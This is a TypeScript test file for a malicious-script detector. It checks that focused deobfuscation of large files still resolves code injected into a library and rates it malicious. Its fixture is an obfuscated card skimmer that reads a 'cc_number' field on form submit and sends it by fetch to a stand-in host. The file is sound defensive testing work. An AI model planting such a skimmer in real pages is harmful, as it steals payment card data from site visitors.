import type { Node } from 'acorn'
import { describe, expect, it } from 'vitest'
import { parseStrict } from '../../detector/parse.ts'
import { resolveStatically } from '../../detector/deobfuscate/partial.ts'
import { FOCUS_BYTES, focusOf } from '../../detector/focus.ts'
import { inspectScript } from '../../detector/index.ts'
import { collectLayer } from '../../detector/collect.ts'
import { emptyFacts } from '../../detector/facts.ts'
import { findSinks } from '../../detector/sinks.ts'

// In a large file the evaluator resolves only the functions where a first look saw something:
// the rest of a library is left as written, and what is injected into it is still resolved.

// a rotated string table read through an accessor: only the evaluator, running the rotation,
// knows where the card number goes
const INJECTED = `var t=['?d=','x','https://h.example/c'];(function(a,n){var r=function(k){while(--k){a.push(a.shift())}};r(++n)}(t,0x2));
var d=function(i){i=i-0x0;return t[i]};document.forms[0].addEventListener('submit',function(){
var c=document.querySelector('input[name="cc_number"]').value;fetch(d('0x0')+d('0x1')+btoa(c))})`

/** What a first look (no evaluator) collects. */
function firstLook(source: string) {
  const facts = emptyFacts(source, '')
  const ast = parseStrict(source) as Node
  collectLayer({ ast, source, depth: 0, outer: undefined }, facts, {
    bytesLeft: 1 << 22,
    evaluate: false,
  })
  facts.sinks = findSinks(facts, {})
  return facts
}

/** Library code with values the evaluator can work out, and nothing a skimmer would show. */
function library(bytes: number): string {
  const parts: string[] = []
  let size = 0
  for (let i = 0; size < bytes; i++) {
    const part = `function part${i}(a){var k=['ma','rgin'];var name=k[0]+k[1];return a.style[name]||${i}}\n`
    parts.push(part)
    size += part.length
  }
  return parts.join('')
}

describe('focused evaluation of large files', () => {
  it('rewrites only the functions the focus keeps', () => {
    const source = `function keep(){var k=['a','b'];return k[0]+k[1]}\nfunction skip(){var k=['c','d'];return k[0]+k[1]}`
    const ast = parseStrict(source) as Node
    const skipAt = source.indexOf('function skip')
    const out = resolveStatically(ast, source, undefined, true, (start) => start < skipAt)
    expect(out?.source).toContain('return "ab"')
    expect(out?.source).toContain('return k[0]+k[1]}')
    const all = resolveStatically(parseStrict(source) as Node, source)
    expect(all?.source).toContain('return "cd"')
  })

  it('has no focus for small files: they are resolved everywhere', () => {
    expect(focusOf(firstLook(INJECTED), [])).toBeUndefined()
  })

  it('keeps the injected code of a large library and leaves the rest as written', () => {
    const lib = library(FOCUS_BYTES + 10_000)
    const source = `${lib}${INJECTED}`
    const focus = focusOf(firstLook(source), [])
    expect(focus).toBeDefined()
    const out = resolveStatically(parseStrict(source) as Node, source, undefined, true, focus)
    expect(out?.source).toContain('fetch("https://h.example/c?d="+btoa(c))')
    // no library function was rewritten
    expect(out?.source.startsWith(lib)).toBe(true)
  })

  it('judges a skimmer injected into a large library as it judges the skimmer alone', () => {
    const alone = inspectScript(INJECTED).verdict
    const injected = inspectScript(`${library(FOCUS_BYTES + 10_000)}${INJECTED}`).verdict
    expect(alone.verdict).toBe('malicious')
    expect(injected.verdict).toBe('malicious')
    expect(injected.findings.map((f) => f.rule)).toEqual(
      expect.arrayContaining(alone.findings.filter((f) => f.points > 0).map((f) => f.rule)),
    )
  })
})
